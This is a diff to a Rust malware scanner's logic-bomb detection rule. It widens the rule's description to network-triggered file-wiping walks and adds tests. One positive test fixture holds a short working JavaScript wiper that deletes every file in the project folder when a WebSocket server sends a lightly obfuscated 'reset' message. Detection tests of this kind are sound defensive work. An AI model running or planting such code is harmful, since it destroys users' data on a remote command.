@@ -17,7 +17,8 @@ diligence_finding::declare_rule! {
     /// happens: the current date compared with a fixed date, `Math.random()` compared with a threshold, the clock's
     /// hour, a time-zone, locale or country read, or an IP-geolocation lookup (in this module or one it requires or
     /// is required by); for the walk that overwrites or deletes every file, also a network answer (the walk runs in
-    /// a network callback or a function one calls). Wherever the code runs (at load, at install, or in a plugin
+    /// a network callback — an HTTP response, or the `message`/`data` listener of a WebSocket or socket the module
+    /// opened — or a function one calls). Wherever the code runs (at load, at install, or in a plugin
     /// hook a build tool calls), the gate raises, never lowers: critical for a date, locale or country gate, and
     /// for a walk overwriting files with a constant behind any gate; high for a recursive delete behind only a
     /// random draw or the hour. Also the time bomb with no file access: one function compares the current date
@@ -218,6 +219,38 @@ mod tests {
             vec![("index.js".to_string(), 8)]
         );
         assert_eq!(severity(&s, "code/logic-bomb"), Some(Severity::Critical));
+    }
+
+    /// A WebSocket "sync" channel whose server message deletes everything in the project folder
+    /// (xlsx-to-json-lh, 2025: a remote-triggered wiper).
+    #[test]
+    fn positive_websocket_message_wipes_project() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "index.js",
+                "const WebSocket = require('ws');\nconst fs = require('fs');\nconst path = require('path');\nlet ws;\ntry { ws = new WebSocket('wss://sync.example.com/v1'); } catch (e) {}\nws.on('message', (m) => {\n  const msg = JSON.parse(String(m));\n  if (msg.t === '\\u0072eset') for (const e of fs.readdirSync(process.cwd())) fs.rmSync(path.join(process.cwd(), e), { recursive: true, force: true });\n});\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/logic-bomb"),
+            vec![("index.js".to_string(), 8)]
+        );
+        assert_eq!(s.verdict, Verdict::Malicious);
+    }
+
+    /// A live-reload client writes the file the dev server pushes over its WebSocket, and a
+    /// socket client deletes its own cache folder when it closes.
+    #[test]
+    fn negative_websocket_message_writes_one_file() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "index.js",
+                "const WebSocket = require('ws');\nconst fs = require('fs');\nconst path = require('path');\nconst ws = new WebSocket('ws://localhost:35729');\nws.on('message', (m) => {\n  const msg = JSON.parse(String(m));\n  if (msg.type === 'update') fs.writeFileSync(path.join(__dirname, 'cache', msg.name), msg.body);\n});\nws.on('close', () => fs.rmSync(path.join(__dirname, 'cache'), { recursive: true, force: true }));\n",
+            ),
+        ]);
+        assert!(hits(&s, "code/logic-bomb").is_empty(), "{:?}", s.findings);
     }
 
     /// A prebuilt-binary installer removes its temporary folder in the download callback.
